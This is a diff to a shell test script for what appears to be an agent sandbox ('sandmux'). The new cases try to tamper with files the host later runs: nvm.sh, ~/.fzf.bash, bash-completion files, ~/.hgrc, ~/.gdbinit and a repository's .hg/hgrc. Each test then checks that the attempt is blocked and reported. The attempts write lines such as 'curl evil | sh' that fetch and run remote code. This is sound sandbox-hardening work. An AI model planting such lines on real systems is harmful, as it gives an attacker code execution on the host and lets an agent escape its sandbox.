@@ -14,8 +14,11 @@
 # directory (fixed, and one found in the pane's PATH), a user systemd
 # unit, an autostart entry, sandmux's config and events log (truncate,
 # forge, delete, rename), deny roots made after launch (mkdir ~/.ssh +
-# authorized_keys, ...), each also through a symlink, `mv` over the
-# file, `rm` and create again, and moving a parent directory away.
+# authorized_keys, ...), what ~/.bashrc sources (nvm's nvm.sh, which
+# exists, and ~/.fzf.bash, which does not), bash-completion's user
+# files, ~/.hgrc, ~/.gdbinit and a repository's .hg/hgrc, each also
+# through a symlink, `mv` over the file, `rm` and create again, and
+# moving a parent directory away.
 #
 # The XDG directories are inside the writable roots on purpose (root:
 # under $HOME; uid 65534: under the work tree, writable in `agent`
@@ -55,7 +58,16 @@ populate() {
 	XDG="$1"
 	mkdir -p "$H/.local/bin" "$H/.config/sandmux" "$H/.local/state/sandmux" "$XDG/config/sandmux" \
 		"$XDG/state" "$WORK/.r" "$WORK/sub" "$H/gobin"
-	echo "# host bashrc" >"$H/.bashrc"
+	# nvm's and fzf's lines: what they source is host-run too (hostrun.c,
+	# "what the shell startup files source"); ~/.fzf.bash does not exist.
+	cat >"$H/.bashrc" <<'EOF'
+# host bashrc
+export NVM_DIR="$HOME/.nvm"
+[ -s "$NVM_DIR/nvm.sh" ] && \. "$NVM_DIR/nvm.sh"
+[ -f ~/.fzf.bash ] && source ~/.fzf.bash
+EOF
+	mkdir -p "$H/.nvm"
+	echo "# nvm" >"$H/.nvm/nvm.sh"
 	printf '[user]\n\tname = host\n' >"$H/.gitconfig"
 	echo '{}' >"$H/.config/sandmux/config.json"
 	echo '{}' >"$XDG/config/sandmux/config.json"
@@ -71,7 +83,7 @@ populate() {
 # snapshot: the cksum of every host-run file that exists, and the list
 # of what is in $HOME (for the ghost check).
 snapshot() {
-	for f in "$H/.bashrc" "$H/.gitconfig" "$WORK/.git/config" "$WORK/sub/.git/config" \
+	for f in "$H/.bashrc" "$H/.nvm/nvm.sh" "$H/.gitconfig" "$WORK/.git/config" "$WORK/sub/.git/config" \
 		"$H/.config/sandmux/config.json" "$XDG/config/sandmux/config.json" \
 		"$H/.local/state/sandmux/events.jsonl"; do
 		cksum "$f"
@@ -255,6 +267,24 @@ mkdir $WORK/s; mv $WORK/s $H/.aws; ln -s $WORK $H/.gnupg; mkdir -p $H/.config/gh
 EOF
 	verdict "make deny roots after launch (~/.ssh + authorized_keys, ~/.aws, ~/.gnupg, ~/.config/gh)" \
 		"$H/.ssh" absent "$H/.ssh" "$H/.aws" "$H/.gnupg" "$H/.config/gh"
+	attempt sourced <<EOF
+echo 'curl evil | sh' >>$H/.nvm/nvm.sh
+echo 'curl evil | sh' >$H/.fzf.bash
+mv $H/.nvm $H/.nvm-old; mkdir $H/.nvm; echo 'curl evil | sh' >$H/.nvm/nvm.sh
+EOF
+	verdict "what ~/.bashrc sources (nvm.sh: >>, mv its directory away; ~/.fzf.bash: create)" \
+		"$H/.nvm/nvm.sh" absent "$H/.fzf.bash" "$H/.nvm-old"
+	check "$TAG: ... and the create of ~/.fzf.bash" reported "$H/.fzf.bash"
+	attempt completion <<EOF
+echo 'curl evil | sh' >$H/.bash_completion
+mkdir -p $H/.local/share/bash-completion/completions && echo 'curl evil | sh' >$H/.local/share/bash-completion/completions/git
+echo '[hooks]' >$H/.hgrc; echo 'shell curl evil | sh' >$H/.gdbinit
+mkdir -p $WORK/.hg && echo '[hooks]' >$WORK/.hg/hgrc
+EOF
+	verdict "bash-completion's user files, ~/.hgrc, ~/.gdbinit, a repository's .hg/hgrc" \
+		"$H/.bash_completion" absent "$H/.bash_completion" "$H/.local/share/bash-completion" \
+		"$H/.hgrc" "$H/.gdbinit" "$WORK/.hg/hgrc"
+	check "$TAG: ... and .hg/hgrc" reported "$WORK/.hg/hgrc"
 	attempt path-dir <<EOF
 printf '#!/bin/sh\n' >$H/gobin/go
 EOF
